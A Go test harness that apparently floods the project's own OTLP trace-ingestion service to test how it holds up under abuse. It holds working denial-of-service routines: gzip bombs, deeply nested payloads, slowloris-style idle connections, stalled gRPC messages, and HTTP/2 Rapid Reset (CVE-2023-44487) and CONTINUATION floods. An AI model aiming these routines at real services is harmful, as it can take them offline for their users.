package main

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials"
	"google.golang.org/grpc/metadata"

	workload "github.com/veriproof/notary/host/internal/bench"
)

func zipped(b []byte) []byte {
	var buf bytes.Buffer
	w := gzip.NewWriter(&buf)
	if _, err := w.Write(b); err != nil {
		panic(err) // memory does not fail
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
	return buf.Bytes()
}

// start starts every attack. Those whose exports are taken have their connections first.
func (f *flood) start() {
	for name, dear := range map[string]func() []byte{"escapes": f.escapes, "findings": f.findings, "sessions": f.sessions, "records": f.tinyRecords} {
		if !f.Dear {
			break
		}
		conn, taken := f.connect(), new(atomic.Uint64)
		f.taken[name] = taken
		export := func() {
			if f.sendOn(f.ctx, conn, dear(), f.Key) == nil {
				taken.Add(1)
			}
		}
		export()
		defer f.loop(export)
	}
	emptySpans := nested(10, nested(18, bytes.Repeat([]byte{18, 0}, 1<<19)))
	deep := []byte("x")
	for range 10_000 {
		deep = nested(42, nested(10, deep))
	}
	for _, b := range []struct {
		media    string
		body     []byte
		encoding string
	}{
		{"application/x-protobuf", zipped(make([]byte, 64<<20)), "gzip"},
		{"application/x-protobuf", bytes.Repeat(zipped(make([]byte, 1<<20)), 64), "gzip"},
		{"application/x-protobuf", zipped(emptySpans), "gzip"},
		{"application/x-protobuf", nested(10, nested(10, nested(10, deep))), ""},
		{"application/json", []byte(`{"resourceSpans":[{"scopeSpans":[{"spans":[` + strings.Repeat("{},", 1<<19) + `{}]}]}]}`), ""},
		{"application/json", []byte(strings.Repeat("[", 1<<20)), ""},
	} {
		f.loop(func() { f.post(b.media, b.encoding, b.body) })
	}
	large := bytes.Repeat(workload.Small(7), 80)
	f.loop(func() { _ = f.send(f.ctx, large, "wrong") })
	for range stalledMessages {
		f.loop(f.stall)
	}
	f.loop(func() { f.rapidReset(f.OTLP, exportTraces, "application/grpc") })
	f.loop(func() { f.rapidReset(f.OTLPHTTP, "/v1/traces", "application/x-protobuf") })
	f.loop(f.continuation)
	for range 100 {
		f.idle(f.OTLPHTTP, "POST /v1/traces HTTP/1.1\r\n") // a head that does not end
	}
	for range 5_000 { // several times as many as a port takes
		f.idle(f.OTLP, "") // no handshake
		f.idle(f.OTLPHTTP, "")
	}
}

// loop does something until the flood is over, with a breath between: who makes the
// flood shares the machine with who suffers it.
func (f *flood) loop(do func()) {
	f.wg.Go(func() {
		tick := time.NewTicker(10 * time.Millisecond)
		defer tick.Stop()
		for f.ctx.Err() == nil {
			do()
			f.tries.Add(1)
			<-tick.C
		}
	})
}

func (f *flood) send(ctx context.Context, body []byte, key string) error {
	return f.sendOn(ctx, f.conn, body, key)
}

func (f *flood) sendOn(ctx context.Context, conn *grpc.ClientConn, body []byte, key string) error {
	ctx, cancel := context.WithTimeout(metadata.AppendToOutgoingContext(ctx, "x-api-key", key), patience)
	defer cancel()
	var reply []byte
	return conn.Invoke(ctx, exportTraces, body, &reply)
}

// connect returns a connection of its own.
func (f *flood) connect() *grpc.ClientConn {
	conn, err := grpc.NewClient(f.OTLP, grpc.WithTransportCredentials(credentials.NewTLS(f.tls)), grpc.WithDefaultCallOptions(grpc.ForceCodec(rawCodec{})), grpc.WithDisableRetry())
	if err != nil {
		panic(err)
	}
	return conn
}

// stalled is a message as large as may be, but for its last byte.
var stalled = append([]byte{0, 0, floodRequest >> 16, 0, 0}, make([]byte, floodRequest-1)...)

// stall announces a message over gRPC that is as large as may be, and sends all but its end.
func (f *flood) stall() {
	body, end := io.Pipe()
	defer end.Close()
	go func() {
		_, _ = end.Write(stalled)
	}()
	r, err := http.NewRequestWithContext(f.ctx, http.MethodPost, "https://"+f.OTLP+exportTraces, body)
	if err != nil {
		panic(err)
	}
	r.Header.Set("Content-Type", "application/grpc")
	r.Header.Set("TE", "trailers")
	r.Header.Set("X-Api-Key", f.Key)
	if resp, err := f.http2.Do(r); err == nil { // it is told something
		_, _ = io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
	}
}

// span returns one with a session and a text, which are not sent twice.
func (f *flood) span(session, text string) []byte {
	id := binary.BigEndian.AppendUint64(make([]byte, 8), f.spans.Add(1))
	b := slices.Concat(nested(10, id), nested(18, id[8:]), nested(42, []byte("s")))
	for key, value := range map[string]string{"session.id": session, "gen_ai.prompt": text} {
		b = append(b, nested(74, slices.Concat(nested(10, []byte(key)), nested(18, nested(10, []byte(value)))))...)
	}
	return nested(18, b)
}

func (f *flood) escapes() []byte {
	text := `{"a":"` + strings.Repeat(`\u006a\n\/`, 20<<10) + `"}`
	return nested(10, nested(18, f.span("escapes", text)))
}

func (f *flood) findings() []byte {
	return nested(10, nested(18, f.span("findings", strings.Repeat("jo@mail.example 4111111111111111 ", 4<<10))))
}

func (f *flood) sessions() []byte {
	var b []byte
	for range 4_000 {
		b = append(b, f.span(fmt.Sprint("session ", f.spans.Load()), "hello")...)
	}
	return nested(10, nested(18, b))
}

func (f *flood) tinyRecords() []byte {
	var b []byte
	for range 8_000 {
		b = append(b, nested(18, nested(42, strconv.AppendUint(nil, f.spans.Add(1), 36)))...)
	}
	return nested(10, nested(18, b))
}

func (f *flood) post(media, encoding string, body []byte) {
	r, err := http.NewRequestWithContext(f.ctx, http.MethodPost, "https://"+f.OTLPHTTP+"/v1/traces", bytes.NewReader(body))
	if err != nil {
		return
	}
	r.Header.Set("Content-Type", media)
	r.Header.Set("X-Api-Key", f.Key)
	if encoding != "" {
		r.Header.Set("Content-Encoding", encoding)
	}
	if resp, err := f.http.Do(r); err == nil {
		_, _ = io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
	}
}

// idle holds a connection open on which next to nothing comes.
func (f *flood) idle(addr, begin string) {
	f.wg.Go(func() {
		conn, err := new(net.Dialer).DialContext(f.ctx, "tcp", addr)
		if err != nil {
			return
		}
		defer conn.Close()
		if begin != "" {
			secure := tls.Client(conn, f.tls.Clone())
			if secure.HandshakeContext(f.ctx) != nil {
				return
			}
			if _, err := io.WriteString(secure, begin); err != nil {
				return
			}
		}
		<-f.ctx.Done()
	})
}

// rapidReset opens streams and takes them back at once (CVE-2023-44487).
func (f *flood) rapidReset(addr, path, media string) {
	f.frames(addr, func(framer *http2.Framer, flush func() error) error {
		var head bytes.Buffer
		encoder := hpack.NewEncoder(&head)
		for stream := uint32(1); stream < 2*resets; stream += 2 {
			head.Reset()
			for _, field := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":authority", "notary"}, {":path", path}, {"content-type", media}, {"te", "trailers"}} {
				if err := encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}); err != nil {
					return err
				}
			}
			if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head.Bytes(), EndHeaders: true}); err != nil {
				return err
			}
			if err := framer.WriteRSTStream(stream, http2.ErrCodeCancel); err != nil {
				return err
			}
		}
		return flush()
	})
}

// continuation sends a header that does not end.
func (f *flood) continuation() {
	f.frames(f.OTLPHTTP, func(framer *http2.Framer, flush func() error) error {
		var head bytes.Buffer
		if err := hpack.NewEncoder(&head).WriteField(hpack.HeaderField{Name: "x-fill", Value: strings.Repeat("a", 8<<10)}); err != nil {
			return err
		}
		if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: head.Bytes()}); err != nil {
			return err
		}
		for f.ctx.Err() == nil {
			if err := framer.WriteContinuation(1, false, head.Bytes()); err != nil {
				return err
			}
			if err := flush(); err != nil {
				return err
			}
		}
		return nil
	})
}

// frames begins a connection of HTTP/2 and has do write to it, for five seconds at most.
func (f *flood) frames(addr string, do func(framer *http2.Framer, flush func() error) error) {
	config := f.tls.Clone()
	config.NextProtos = []string{"h2"}
	dialer := tls.Dialer{Config: config}
	conn, err := dialer.DialContext(f.ctx, "tcp", addr)
	if err != nil {
		return
	}
	defer conn.Close()
	if conn.SetDeadline(time.Now().Add(5*time.Second)) != nil {
		return
	}
	out := bufio.NewWriter(conn)
	if _, err := out.WriteString(http2.ClientPreface); err != nil {
		return
	}
	framer := http2.NewFramer(out, conn)
	if framer.WriteSettings() != nil {
		return
	}
	_ = do(framer, out.Flush) // the notary may hang up at any time
}
